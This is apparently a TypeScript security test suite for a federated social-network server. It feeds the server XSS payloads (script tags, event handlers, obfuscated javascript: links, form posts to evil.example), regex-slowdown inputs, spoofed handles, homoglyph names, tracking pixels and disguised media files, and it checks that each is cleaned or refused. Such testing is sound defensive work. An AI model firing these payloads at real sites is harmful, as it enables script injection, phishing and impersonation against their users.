import { domainToASCII } from 'node:url'
import { PUBLIC } from '../rig/evil-peer/actor.ts'
import { expectEqual, expectOne, expectThat } from '../rig/evil-peer/expect.ts'
import { ANA } from '../rig/evil-peer/target.ts'
import { DECEIVING, htmlProblem } from '../rig/evil-peer/strict-html.ts'
import { Answers, type Attempt } from './attempt.ts'
import type { Person, Scene, Status } from '../rig/evil-peer/scene.ts'

/** What is in a post or a profile: rules 9, 10, 11, 30, 31, 32, 33 and 34. */

/** HTML that runs, phones or draws over things somewhere. */
const PAYLOADS = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)><a xlink:href="javascript:alert(1)">x</a></svg>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="jAvAsCrIpT&colon;alert(1)">x</a>',
  '<a href=" \u0001javascript:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="&#x6a;avascript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:x">x</a><a href="file:///etc/passwd">x</a><a href="blob:x">x</a>',
  '<a href="//evil.example">x</a><a href="\\\\evil.example">x</a>',
  '<p style="position:fixed;inset:0" class="modal overlay mention" id="app" data-x="1" onclick="x()">x</p>',
  '<iframe src="https://evil.example"></iframe><object data="x"></object><embed src="x">',
  '<form action="https://evil.example"><input name=password><button>x</button></form>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><script>x</script></template><base href="https://evil.example"><meta http-equiv=refresh content=0>',
  '<a href="https://ok.example" target="_top" rel="opener me" ping="https://evil.example">x</a>',
  '<<script>script>alert(1)<</script>/script>',
  '<p><!--><img src=x onerror=alert(1)>--></p><![CDATA[<script>]]>',
  '<span class="h-card\u0000\u000ax invisible evil">x</span>',
  '<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>',
  `<p>${'<b>'.repeat(500)}x</p>`,
]
/** What takes quadratic time or more in a careless expression. */
const SLOW = [
  '<a '.repeat(60_000),
  '<'.repeat(190_000),
  `<a href="${'a'.repeat(190_000)}`,
  '<link rel="x" '.repeat(12_000),
  '&'.repeat(190_000),
  `${'<p><b><i>'.repeat(18_000)}x`,
  `<p>${'@a'.repeat(90_000)}</p>`,
  `<p>${'#'.repeat(190_000)}</p>`,
  `<p>${'http://'.repeat(25_000)}</p>`,
  ' '.repeat(190_000),
  '<!--'.repeat(40_000),
  `<p ${'x="" '.repeat(35_000)}>`,
]

/** Posts of mo’s are taken; what comes of them here. */
async function postedAll(s: Scene, notes: readonly Record<string, unknown>[]): Promise<Status[]> {
  const creates = notes.map((note) => s.mo.create(note))
  for (const create of creates) expectEqual((await s.deliver(s.mo, create)).status, 202, 'the Create')
  await s.settled()
  const statuses: Status[] = []
  for (const { object } of creates) {
    const id = s.storedId((object as { id: string }).id)
    const status = id === null ? null : await s.status(id)
    expectThat(status, `mo’s post is not here: ${JSON.stringify(object).slice(0, 300)}`)
    statuses.push(status)
  }
  return statuses
}

const posted = async (s: Scene, note: Record<string, unknown>): Promise<Status> => (await postedAll(s, [note]))[0] as Status

function expectClean(html: string, what: string): void {
  const problem = htmlProblem(html)
  expectThat(problem === null, `${what}: ${problem}`)
}

/** A host that proves any handle: WebFinger says yes to whatever is asked. */
function obliging(s: Scene, host: string, actorPath: string): void {
  s.peer.host(host).serveRest((request, response) => {
    const url = new URL(request.path, `https://${host}`)
    if (url.pathname !== '/.well-known/webfinger') return void response.writeHead(404).end()
    const subject = url.searchParams.get('resource') ?? ''
    const links = [{ rel: 'self', type: 'application/activity+json', href: `https://${host}${actorPath}` }]
    response.writeHead(200, { 'content-type': 'application/jrd+json' }).end(JSON.stringify({ subject, links }))
  })
}

async function personAt(s: Scene, url: string): Promise<Person | null> {
  const found = await s.search(url)
  expectOne(found.status, [200, 503], 'a look-up')
  return found.accounts[0] ?? null
}

export const content: Attempt[] = [
  {
    rule: 9,
    name: 'user names that read as others',
    leaves: 'anything',
    requests: 60,
    async play(s) {
      let shown = 0
      const names = [
        'm\u043e',
        'mo\u202egro',
        'mo\u200b',
        'mo@mo.example',
        '../mo',
        'mo mo',
        '',
        'm'.repeat(300),
        'mo\u0000',
        '@mo',
        'mo\n',
        '<b>mo</b>',
        'ana',
        'MO',
      ]
      for (const [index, name] of names.entries()) {
        const host = `mimic${index}.peers.test`
        const id = `https://${host}/users/x`
        s.peer.host(host).serve('/users/x', {
          ...s.mallory.document,
          id,
          preferredUsername: name,
          inbox: `${id}/inbox`,
          publicKey: { id: `${id}#k`, owner: id, publicKeyPem: s.mallory.keys.publicPem },
        })
        obliging(s, host, '/users/x')
        const person = await personAt(s, id)
        if (!person) continue
        shown++
        expectThat(
          new RegExp(`^[A-Za-z0-9_.-]{1,64}@${host.replaceAll('.', '\\.')}$`).test(person.acct),
          `${JSON.stringify(name)} is shown as ${person.acct}`,
        )
      }
      return `${shown} of ${names.length} shown`
    },
  },
  {
    rule: 9,
    name: 'a handle on a host that does not say so',
    leaves: 'anything',
    requests: 30,
    async play(s) {
      const { evil } = s.hosts
      const actor = evil.actor('climber')
      evil.finger('climber@evil.example', { subject: 'acct:mo@mo.example', self: actor.id })
      const one = await personAt(s, actor.id)
      expectThat(one === null || one.acct.endsWith('@evil.example'), `shown as ${one?.acct}`)
      evil.finger('boss@evil.example', { subject: 'acct:boss@bob.example', self: actor.id })
      const { accounts } = await s.search('@boss@evil.example')
      expectThat(
        accounts.every(({ acct }) => acct.endsWith('@evil.example')),
        `shown as ${accounts[0]?.acct}`,
      )
      evil.finger('loop@evil.example', { subject: 'acct:loop@evil.example', self: s.mo.id })
      const looped = (await s.search('@loop@evil.example')).accounts[0]
      expectThat(!looped || looped.acct === 'mo@mo.example', `shown as ${looped?.acct}`)
      return one?.acct ?? 'not shown'
    },
  },
  {
    rule: 9,
    name: 'a host in letters of another script',
    leaves: 'anything',
    async play(s) {
      const host = domainToASCII('m\u043e.peers.test')
      const actor = s.peer.host(host).actor('mo')
      const person = await personAt(s, actor.id)
      expectEqual(person?.acct, `mo@${host}`, 'the handle')
      return person?.acct ?? ''
    },
  },
  {
    rule: 9,
    name: 'display names with hidden and turning characters',
    leaves: 'anything',
    requests: 40,
    async play(s) {
      const names = [
        '\u202eevil',
        'mo\u200b\u200e',
        '\u2066mo\u2069\ufeff',
        '<b>mo</b><script>x</script>',
        'a\u0000b\u0007',
        'x'.repeat(5_000),
        '\u0430\u0301'.repeat(2_000),
      ]
      for (const [index, name] of names.entries()) {
        const actor = s.hosts.evil.actor(`hidden${index}`, {
          name,
          summary: `<p>${name}</p>`,
          attachment: [{ type: 'PropertyValue', name, value: name }],
        })
        const person = await personAt(s, actor.id)
        expectThat(person, 'the actor cannot be had')
        expectThat(!DECEIVING.test(person.display_name), `the name ${JSON.stringify(person.display_name).slice(0, 100)}`)
        expectThat(person.display_name.length <= 500, `a name of ${person.display_name.length} characters`)
        for (const field of person.fields) {
          expectThat(!DECEIVING.test(field.name), `the field ${JSON.stringify(field.name).slice(0, 100)}`)
          expectClean(field.value, 'a field')
          expectEqual(field.verified_at, null, 'verified')
        }
        expectClean(person.note, 'the note')
      }
      return 'cleaned'
    },
  },
  {
    rule: 10,
    name: 'a mention whose text and address are two people',
    leaves: 'anything',
    async play(s) {
      const before = (await s.notifications()).length
      const tag = [
        { type: 'Mention', href: s.mallory.id, name: '@ana@ana.example' },
        { type: 'Mention', href: s.bob.id, name: '@mo@mo.example' },
        { type: 'Mention', href: 'https://evil.example/users/nobody', name: '@neighbour@mo.example' },
      ]
      const status = await posted(s, { tag, content: `<p><a class="mention" href="${s.mallory.id}">@ana</a></p>` })
      const named = status.mentions.map(({ acct }) => acct).toSorted()
      for (const acct of named) expectOne(acct, ['mallory@evil.example', 'bob@bob.example'], 'who is mentioned')
      expectEqual((await s.notifications()).length, before, 'notifications')
      return named.join(', ')
    },
  },
  {
    rule: 10,
    name: 'a link that says another address than it leads to',
    leaves: 'anything',
    async play(s) {
      const status = await posted(s, {
        content: '<p><a href="https://evil.example/login" title="https://bank.example">https://bank.example</a></p>',
      })
      expectClean(status.content, 'the content')
      expectThat(!status.content.includes('title='), 'a title that hides the address')
      expectThat(status.content.includes('href="https://evil.example/login"'), 'the address is no longer shown')
      return 'true address'
    },
  },
  {
    rule: 11,
    name: 'emoji of other hosts, in other people’s names, in handles',
    leaves: 'anything',
    async play(s) {
      const emoji = (name: string, id: string, url: string) => ({
        type: 'Emoji',
        id,
        name,
        icon: { type: 'Image', mediaType: 'image/png', url },
      })
      const own = emoji(':tick:', `${s.hosts.mo.origin}/emoji/tick`, `${s.hosts.mo.origin}/tick.png`)
      const first = await posted(s, { content: '<p>:tick:</p>', tag: [own] })
      const url = first.emojis[0]?.url
      expectEqual(
        first.emojis.map(({ shortcode }) => shortcode),
        ['tick'],
        'an emoji of its own host',
      )
      // Bob’s host sends one of mo’s, and so does mo with an id of bob’s.
      await s.takes(
        s.bob,
        s.bob.create({
          to: [ANA],
          tag: [emoji(':tick:', `${s.hosts.mo.origin}/emoji/tick`, `${s.hosts.bob.origin}/fake.png`), { type: 'Mention', href: ANA }],
        }),
      )
      const stolen = await posted(s, {
        content: '<p>:bolt: :a/b: :"x:</p>',
        tag: [
          emoji(':bolt:', `${s.hosts.bob.origin}/emoji/bolt`, `${s.hosts.evil.origin}/x.png`),
          emoji(':a/b:', `${s.hosts.mo.origin}/e/1`, 'https://mo.example/1.png'),
          emoji(':"x:', `${s.hosts.mo.origin}/e/2`, 'javascript:1'),
        ],
      })
      expectEqual(stolen.emojis, [], 'emoji that are not theirs to send')
      const again = await s.status(first.id)
      expectEqual(again?.emojis[0]?.url, url, 'mo’s emoji')
      return 'kept apart'
    },
  },
  {
    rule: 30,
    name: 'HTML that takes careless expressions for ever',
    leaves: 'anything',
    async play(s) {
      let slowest = 0
      for (const html of SLOW) {
        const startedAt = performance.now()
        await posted(s, { content: html, summary: html.slice(0, 90_000) })
        slowest = Math.max(slowest, performance.now() - startedAt)
        expectThat(slowest < 10_000, `${html.slice(0, 20)}… took ${Math.round(slowest)} ms`)
      }
      return `slowest ${Math.round(slowest)} ms`
    },
  },
  {
    rule: 31,
    name: 'scripts, handlers, styles and schemes in a post',
    leaves: 'anything',
    async play(s) {
      const notes = PAYLOADS.flatMap((html) =>
        [html, `<p>${html}</p>`].map((body) => ({ content: body, summary: html, contentMap: { en: body } })),
      )
      for (const status of await postedAll(s, notes)) expectClean(status.content, 'the content')
      return `${PAYLOADS.length} kinds`
    },
  },
  {
    rule: 31,
    name: 'the same in every place that shows text',
    leaves: 'anything',
    requests: 60,
    async play(s) {
      const notes = PAYLOADS.map((html, index) => {
        const note = { name: html, summary: html, content: html, mediaType: index % 2 === 0 ? 'text/markdown' : 'text/html' }
        const type = ['Article', 'Page', 'Event', 'Video', 'Question'][index % 5] as string
        const attachment = [{ type: 'Image', mediaType: 'image/png', url: 'https://mo.example/a.png', name: html }]
        const oneOf = [html, `${html} `].map((name) => ({ type: 'Note', name, replies: { type: 'Collection', totalItems: 1 } }))
        return { ...note, type, attachment, ...(type === 'Question' ? { oneOf } : {}) }
      })
      for (const status of await postedAll(s, notes)) expectClean(status.content, 'the content')
      const actor = s.hosts.evil.actor('scripted', {
        name: PAYLOADS.join(''),
        summary: PAYLOADS.join(''),
        url: 'javascript:alert(1)',
        attachment: PAYLOADS.slice(0, 12).map((html) => ({ type: 'PropertyValue', name: html, value: html })),
      })
      const person = await personAt(s, actor.id)
      expectThat(person, 'the actor cannot be had')
      expectClean(person.note, 'the note')
      expectThat(/^https?:/.test(person.url), `the address ${person.url}`)
      for (const field of person.fields) expectClean(field.value, 'a field')
      return 'cleaned'
    },
  },
  {
    rule: 32,
    name: 'pictures that would tell who looks',
    leaves: 'anything',
    async play(s) {
      const remote = `${s.hosts.evil.origin}/pixel.png`
      const actor = s.hosts.evil.actor('pixel', {
        icon: { type: 'Image', mediaType: 'image/png', url: remote },
        image: { type: 'Image', mediaType: 'image/png', url: remote },
      })
      const person = await personAt(s, actor.id)
      const status = await posted(s, {
        content: `<p>x<img src="${remote}"></p>`,
        attachment: [{ type: 'Image', mediaType: 'image/png', url: remote, name: 'x' }],
        tag: [{ type: 'Emoji', id: 'https://mo.example/e/9', name: ':pix:', icon: { type: 'Image', url: remote } }],
      })
      const ours = `http://127.0.0.1:${s.target.ownerPort}/`
      const shown = [
        person?.avatar,
        person?.header,
        ...status.media_attachments.flatMap((file) => [file.url, file.preview_url]),
        ...status.emojis.map((one) => one.url),
      ]
      for (const url of shown) expectThat(!url || url.startsWith(ours), `the window would fetch ${url}`)
      expectThat(!status.content.includes(remote), 'the picture is in the text')
      expectEqual(s.hosts.evil.count('/pixel.png'), 0, 'requests for the picture before anybody looks')
      return `${shown.length} through us`
    },
  },
  {
    rule: 33,
    name: 'documents, scripts and lies as media',
    leaves: 'anything',
    requests: 40,
    async play(s) {
      const bodies: [string, string, Buffer][] = [
        ['image/png', 'image/png', Buffer.from('<html><script>alert(1)</script></html>')],
        ['image/svg+xml', 'image/svg+xml', Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>')],
        ['image/png', 'text/html', Buffer.from('<!doctype html><script>alert(1)</script>')],
        ['video/mp4', 'video/mp4', Buffer.from('#EXTM3U\nfile:///etc/passwd')],
        ['image/gif', 'image/gif', Buffer.from('%PDF-1.7 x')],
        ['image/jpeg', 'application/activity+json', Buffer.from(JSON.stringify(s.mo.note()))],
        ['audio/mpeg', 'audio/mpeg', Buffer.from('MZ\u0090\u0000')],
        ['image/png', 'image/png', Buffer.alloc(0)],
      ]
      const statuses = new Set<number>()
      for (const [index, [, served, bytes]] of bodies.entries()) {
        s.hosts.mo.serve(`/media-${index}.png`, (_request, response) => void response.writeHead(200, { 'content-type': served }).end(bytes))
      }
      const files = bodies.map(([mediaType], index) => ({
        type: 'Document',
        mediaType,
        url: `${s.hosts.mo.origin}/media-${index}.png`,
        name: '../../x',
      }))
      for (const [index, status] of (
        await postedAll(
          s,
          files.map((file) => ({ attachment: [file] })),
        )
      ).entries()) {
        const mediaType = bodies[index]?.[0] ?? ''
        for (const url of [status.media_attachments[0]?.url, status.media_attachments[0]?.preview_url]) {
          if (!url?.startsWith(`http://127.0.0.1:${s.target.ownerPort}/`)) continue
          const answer = await s.target.api('GET', new URL(url).pathname)
          statuses.add(answer.status)
          const type = answer.headers['content-type'] ?? ''
          expectThat(answer.status !== 200 || !/html|svg|xml|json|javascript/.test(type), `${mediaType} is served as ${type}`)
          expectThat(answer.status < 500 || answer.status === 503, `${mediaType} is answered with ${answer.status}`)
        }
      }
      return [...statuses].toSorted().join(', ')
    },
  },
  {
    rule: 34,
    name: 'blurhashes, focal points, sizes, dates and counts out of range',
    leaves: 'anything',
    async play(s) {
      const odd = [-1, 1e308, 1e15, '9', null, {}, [], NaN, -0, 0.5, '<b>']
      const answers = new Answers()
      const notes = odd.map((value) => ({
        published: typeof value === 'number' ? new Date(Math.min(Math.abs(value || 0) * 1e6, 8e15)).toISOString() : value,
        attachment: [
          {
            type: 'Image',
            mediaType: 'image/png',
            url: 'https://mo.example/a.png',
            width: value,
            height: value,
            duration: value,
            blurhash: `${String(value)}${'x'.repeat(300)}`,
            focalPoint: [value, 5],
          },
        ],
        likes: { type: 'Collection', totalItems: value },
        replies: value,
        sensitive: value,
      }))
      for (const status of await postedAll(s, notes)) {
        expectEqual(status.media_attachments[0]?.blurhash ?? null, null, 'the blurhash')
        const at = Date.parse(status.created_at)
        expectThat(at > 0 && at < Date.now() + 1_000, `the time ${status.created_at}`)
        expectThat(Number.isSafeInteger(status.favourites_count) && status.favourites_count >= 0, `${status.favourites_count} favourites`)
        const focus = (status.media_attachments[0]?.meta as { focus?: { x: number; y: number } } | null)?.focus
        expectThat(!focus || (Math.abs(focus.x) <= 1 && Math.abs(focus.y) <= 1), `the focus ${JSON.stringify(focus)}`)
      }
      answers.add(await s.deliver(s.mo, s.mo.create({ to: PUBLIC })), [202], 'afterwards')
      return String(answers)
    },
  },
]
